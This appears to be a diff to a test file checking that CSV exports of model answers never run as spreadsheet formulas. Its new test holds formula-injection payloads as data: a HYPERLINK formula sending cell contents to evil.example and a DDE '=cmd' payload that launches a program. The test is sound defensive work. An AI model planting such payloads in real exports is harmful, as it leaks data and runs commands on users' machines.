@@ -1,6 +1,7 @@
 """No text of an export runs as a formula, whatever separator the file is opened with; and texts come back."""
 
 import csv
+import io
 import re
 from pathlib import Path
 from tempfile import TemporaryDirectory
@@ -9,10 +10,14 @@ from typing import Any
 import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
+from support.person import Person
+from support.pictures import picture
 from support.some_results import result_of
+from support.terminal import blobsight
 
 from blobsight.results.export import new_file
 from blobsight.results.formulas import guarded, unguarded
+from localcloud.model import Answer
 
 RUNS = re.compile(r"[\s\"]*[=+\-@＝＋－＠]")  # noqa: RUF001
 SEPARATORS = ",;\t|"
@@ -63,6 +68,22 @@ def test_no_cell_is_a_formula_with_any_separator(answers: list[str]) -> None:
         with Path(folder, "a.csv").open(encoding="utf-8-sig", newline="") as opened:
             read = [unguarded(row["answer.text"]) for row in csv.DictReader(opened)]
     assert read == [answer.encode("utf-8", "backslashreplace").decode() for answer in answers]
+    for separator in SEPARATORS:
+        assert [cell for cell in cells(file, separator) if RUNS.match(cell) and not number(cell)] == []
+
+
+async def test_an_answer_of_the_models_runs_nowhere(person: Person, tmp_path: Path) -> None:
+    """The whole way, from a picture that made the model say so to the file of a person."""
+    texts = ['Thanks;=HYPERLINK("https://evil.example/?"&A1;"ok")', "Thanks\t=1+1", "=cmd|'/C calc'!A0"]
+    for n, text in enumerate(texts):
+        person.scripts[f"Formula {n}?"].append(Answer(text))
+        await person.drop(f"formulas/{n}.png", picture(), {"instructions": f"Formula {n}?"})
+        assert (await person.result(f"formulas/{n}.png"))["answer"]["text"] == text
+    path = tmp_path / "answers.csv"
+    ran = await blobsight(person, "results", "formulas/", "-o", str(path))
+    assert ran.status == 0, ran.talk
+    file = path.read_bytes().decode("utf-8-sig")
+    assert [unguarded(row["answer.text"]) for row in csv.DictReader(io.StringIO(file, newline=""))] == texts
     for separator in SEPARATORS:
         assert [cell for cell in cells(file, separator) if RUNS.match(cell) and not number(cell)] == []
 
